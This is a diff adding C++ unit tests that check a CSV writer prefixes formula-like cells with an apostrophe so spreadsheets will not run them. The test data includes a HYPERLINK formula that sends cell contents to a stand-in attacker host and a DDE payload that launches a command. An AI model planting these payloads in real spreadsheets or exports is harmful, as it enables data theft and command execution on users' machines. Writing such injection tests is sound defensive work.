@@ -55,3 +55,64 @@ TEST_F(CsvStore, WhatIsWrittenReadsBackTheSameAndHeadersComeInAnyOrder)
     EXPECT_FALSE(Csv::readRecords("User Name,Notes\r\nann,a,b\r\n", &records, &error));
     EXPECT_EQ(error.line, 2);
 }
+
+TEST(CsvWriter, ATextASpreadsheetWouldRunGetsAnApostropheAndReadsBackAsItWas)
+{
+    struct Case
+    {
+        const char *text;
+        const char *written; // the cell as the file holds it
+    };
+    const Case cases[] = {
+        {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+         "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""},
+        {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+        {"+1+2", "'+1+2"},
+        {"-1+cmd", "'-1+cmd"},
+        {"\tx", "'\tx"},
+        {"\r=x", "\"'\r=x\""},
+        {"'=x", "''=x"},         // a real apostrophe before a formula keeps it
+        {"'quoted'", "'quoted'"}, // an apostrophe before plain text is left alone
+        {"lamp = 5", "lamp = 5"},
+        {"", ""},
+    };
+    for (const Case &c : cases) {
+        SCOPED_TRACE(c.text);
+        Csv::Writer w;
+        w.text(QString::fromUtf8(c.text)).value(QStringLiteral("-12.5"));
+        w.endRow();
+        EXPECT_EQ(w.bytes(), QByteArray(c.written) + ",-12.5\r\n");
+        std::vector<QStringList> rows;
+        Csv::ParseError error;
+        ASSERT_TRUE(Csv::parse(w.bytes(), &rows, &error));
+        ASSERT_EQ(rows.size(), 1u);
+        EXPECT_EQ(Csv::unguardFormula(rows[0][0]), QString::fromUtf8(c.text));
+    }
+}
+
+TEST_F(CsvStore, AnExportOfNamesThatWouldRunReadsBackTheSameRecordsWithAmountsAsNumbers)
+{
+    const QString link = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+    TestSupport::addRecord(store, {{Field::UserName, link},
+                                   {Field::AuctionName, "@SUM(1+1)*cmd|' /C calc'!A0"},
+                                   {Field::Notes, "-drop it"},
+                                   {Field::AuctionTotal, "-12.5"},
+                                   {Field::CloseDate, "12/27/2005"}});
+    const QByteArray csv = Csv::writeRecords(store);
+    // Nothing in the file starts a cell the way a formula does.
+    std::vector<QStringList> rows;
+    Csv::ParseError error;
+    ASSERT_TRUE(Csv::parse(csv, &rows, &error));
+    ASSERT_EQ(rows.size(), 2u);
+    for (const QString &cell : rows[1])
+        EXPECT_FALSE(cell.startsWith('=') || cell.startsWith('@') || cell.startsWith("-d"))
+            << cell.toStdString();
+    const auto cell = [&](Field f) { return rows[1][Fields::index(f)]; };
+    EXPECT_EQ(cell(Field::AuctionTotal), "-12.5");
+    EXPECT_EQ(cell(Field::CloseDate), "12/27/2005");
+    EXPECT_EQ(cell(Field::UserName), "'" + link);
+
+    std::vector<FieldValues> records;
+    ASSERT_TRUE(Csv::readRecords(csv, &records, &error)) << error.message.toStdString();
+    EXPECT_EQ(records, TestSupport::valuesIn(store));
+}
